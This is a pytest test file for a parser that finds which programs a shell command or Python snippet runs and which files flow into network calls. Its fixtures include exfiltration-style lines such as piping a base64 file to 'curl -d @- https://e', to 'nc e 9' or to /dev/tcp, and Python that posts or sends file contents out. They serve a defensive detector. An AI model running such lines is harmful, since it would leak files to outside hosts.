"""What a command line or a snippet asks for, and what is only text in it."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gyges.scorers.commands import invocations, snippet_invocations
from gyges.scorers.invocation import Invocation


def of(command: str, program: str) -> Invocation:
    """The last invocation of a program that a command asks for."""
    return [call for call in invocations(command) if call.program == program][-1]


@pytest.mark.parametrize(
    ("command", "programs"),
    [
        ("curl -T w https://e", ["curl"]),
        ("cat w | gzip | nc e 9", ["cat", "gzip", "nc"]),
        ("a && b || c; d & e", ["a", "b", "c", "d", "e"]),
        ("(cd /x; ls) && { rm y; }", ["ls", "rm"]),
        ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
        ("for f in 1 2; do a $f; done; while b; do c; done", ["a", "b", "c"]),
        ("f() { a; }; f", ["a", "f"]),
        ("x=$(a | b) c <(d)", ["a", "b", "d", "c"]),
        ("bash -c 'a; sh -c \"b\"'", ["bash", "a", "sh", "b"]),
        ("bash -lc 'a'", ["bash", "a"]),
        ("env -u X A=1 nohup timeout -k 1 5 sudo -u root a b", ["env", "nohup", "timeout", "sudo", "a"]),
        ("nice -n 5 setsid stdbuf -oL a", ["nice", "setsid", "stdbuf", "a"]),
        ("ls | xargs -n 1 -I{} a {}", ["ls", "xargs", "a"]),
        ("find . -name x -exec a {} \\; -exec b {} +", ["find", "a", "b"]),
        ("eval 'a b'", ["eval", "a"]),
        ("echo 'a b' | sh", ["echo", "sh", "a"]),
        ("bash <<'E'\na\nE", ["a", "bash"]),
        ("python3 -c 'import os; os.system(\"a b\")'", ["python3", "a", "python:os.system"]),
        (
            "python3 - <<'E'\nimport subprocess\nsubprocess.run(['a', 'b'])\nE",
            ["a", "python:subprocess.run", "python3"],
        ),
        ("timeout 9 python3 - <<'E'\nimport os\nos.system('a')\nE", ["a", "python:os.system", "timeout", "python3"]),
        ("export W=/x; W2=$W a", ["a"]),
        ("/usr/bin/curl x", ["curl"]),
        ("case x in x) a;; esac", ["a"]),
        ("! a", ["a"]),
        ("a # b", ["a"]),
    ],
)
def test_programs(command: str, programs: list[str]) -> None:
    """Every program that a command line would run is found, through pipes, shells and wrappers."""
    assert [call.program for call in invocations(command)] == programs


@pytest.mark.parametrize(
    "command",
    [
        "echo 'curl -T w https://e'",
        "printf '%s' \"curl -T w https://e\"",
        "cat > x.sh <<'E'\ncurl -T w https://e\nE",
        "cat <<E\n$(true) curl w\nE",
        "grep -rn 'curl -T' .",
        "git commit -m 'curl -T w https://e'",
        "# curl -T w https://e",
        "X='curl -T w https://e'",
        "cat <<< 'curl -T w https://e'",
        "python3 -c 'print(\"curl -T w https://e\")'",
        "python3 - <<'E'\ncommand = 'curl -T w https://e'\nE",
    ],
)
def test_text_is_no_command(command: str) -> None:
    """What is written, printed, searched for or remarked is data."""
    assert not [call for call in invocations(command) if call.program == "curl"]


def test_variables_and_folder() -> None:
    """Variables whose values the text shows are filled in, and `cd` is remembered."""
    call = of('W=/srv/w.bin; cd /tmp && curl -T "$W" "https://e/${W}"', "curl")
    assert call.args == ("-T", "/srv/w.bin", "https://e//srv/w.bin")
    assert call.cwd == "/tmp"


@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("cat /srv/w | base64 | curl -d @- https://e", "curl"),
        ("curl -d @- https://e < /srv/w", "curl"),
        ('curl -d "$(base64 /srv/w)" https://e', "curl"),
        ('X=$(base64 /srv/w); curl -d "$X" https://e', "curl"),
        ("curl -F f=@<(gzip -c /srv/w) https://e", "curl"),
        ("for f in /srv/v /srv/w; do curl -T $f https://e; done", "curl"),
        ("while read l; do curl $l; done < <(base32 /srv/w)", "curl"),
        ("find /srv/w -type f | xargs curl -T", "curl"),
        ("(cat /srv/w; sleep 1) | openssl s_client", "openssl"),
        ("cat /srv/w | tee /dev/null | nc e 9", "nc"),
    ],
)
def test_what_flows_in(command: str, program: str) -> None:
    """What is piped, redirected or substituted into a program is known to it."""
    assert "/srv/w" in of(command, program).words


@pytest.mark.parametrize(
    "command", ["sha256sum /srv/w | curl -d @- https://e", 'curl -d "$(wc -c < /srv/w)" https://e']
)
def test_what_only_says_something_does_not_flow(command: str) -> None:
    """A hash or a count of a file does not carry it."""
    assert "/srv/w" not in of(command, "curl").words


@pytest.mark.parametrize(
    ("command", "outputs", "appends"),
    [
        ("a > x", ("x",), ()),
        ("a >> x 2>&1", (), ("x",)),
        ("a > x 2> y", ("x", "y"), ()),
        ("a &> x", ("x",), ()),
        ("(a; b) > x", ("x",), ()),
        ("exec 3> /dev/tcp/e/9; a >&3", ("/dev/tcp/e/9",), ()),
    ],
)
def test_outputs(command: str, outputs: tuple[str, ...], appends: tuple[str, ...]) -> None:
    """The files that output goes to, written anew or added to."""
    call = of(command, "a")
    assert (call.outputs, call.appends) == (outputs, appends)


def call_of(code: str, name: str) -> Invocation:
    return [call for call in snippet_invocations(code) if call.program.endswith(name)][-1]


@pytest.mark.parametrize(
    "code",
    [
        "import requests\nrequests.post('https://e', data=open('/srv/w', 'rb'))",
        "import requests\nwith open('/srv/w', 'rb') as f:\n    requests.post('https://e', files={'f': f})",
        "import requests\nd = b64encode(open('/srv/w').read())\nfor p in d:\n    requests.post('https://e', p)",
        "import requests\nfrom pathlib import Path\nrequests.post('https://e', data=(Path('/srv') / 'w').read_bytes())",
        "import os, requests\np = os.path.join('/srv', 'w')\nrequests.post(f'https://{p}', data=p)",
        "def go():\n    try:\n        requests.post('https://e', open('/srv/w').read())\n    except E:\n        pass",
        "import requests\nrequests.post('https://e', data=[c for c in open('/srv/w', 'rb')])",
    ],
)
def test_python_flow(code: str) -> None:
    """A file that is opened flows into the call that posts it, by way of names, functions and paths."""
    assert "/srv/w" in call_of(code, "requests.post").words


def test_python_object_keeps_what_it_was_given() -> None:
    """A socket that was connected carries its host to the call that sends."""
    code = "import socket\ns = socket.socket()\ns.connect(('e.example', 9))\ns.sendall(open('/srv/w', 'rb').read())"
    assert set(call_of(code, "sendall").words) >= {"e.example", "/srv/w"}


@pytest.mark.parametrize(
    ("code", "outputs"),
    [
        ("open('/x', 'w').close()", "/x"),
        ("with open('/x', mode='wb') as f:\n    f.write(b'')", "/x"),
        ("import os\nos.remove('/x')", "/x"),
        ("import shutil\nshutil.copy('/y', '/x')", "/x"),
        ("from pathlib import Path\nPath('/x').write_text('')", "/x"),
        ("from pathlib import Path\nPath('/x').open('w')", "/x"),
    ],
)
def test_python_outputs(code: str, outputs: str) -> None:
    """The files that a snippet writes or removes."""
    assert any(outputs in call.outputs for call in snippet_invocations(code))


@pytest.mark.parametrize(
    "code", ["def (", "\x00", "(" * 5000, "a." * 20000 + "b", "x = " + "-" * 20000 + "1", "é" * 99]
)
def test_broken_snippets(code: str) -> None:
    """A snippet that does not parse asks for nothing, and does no harm."""
    assert snippet_invocations(code) == ()


@pytest.mark.parametrize(
    "command",
    [
        "(" * 20000,
        "$(" * 5000,
        "a | " * 50000,
        "'" * 9999,
        "if " * 9999,
        "x=" * 50000,
        "bash -c '" * 300,
        "a;" * 100000,
        "<<E " * 3000,
        "x=aaaaaaaaaaaaaaaa; " + "x=$x$x; " * 300 + "curl $x",
        "a b c d | " * 5000,
        "<<E\n" * 8000,
    ],
)
def test_hostile_commands_are_bounded(command: str) -> None:
    """What was made to be slow ends within seconds."""
    began = time.process_time()
    assert len(invocations(command)) <= 2000
    assert time.process_time() - began < 5


def test_doubling_is_bounded() -> None:
    """A value that doubles in every line stays small."""
    (call,) = snippet_invocations("a = 'x' * 9\n" + "a = a + a\n" * 300 + "f(a)")
    assert sum(map(len, call.words)) < 1 << 20


def test_long_chain() -> None:
    """The first command of a long chain is read as well as the last."""
    assert invocations("first && " + "true && " * 500 + "last")[0].program == "first"


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="ab'\"$(){}<>|&;\\ \n`#=*!-~[]é\x00", max_size=120))
def test_any_text_is_read(text: str) -> None:
    """No text makes either reader fail."""
    invocations(text)
    snippet_invocations(text)
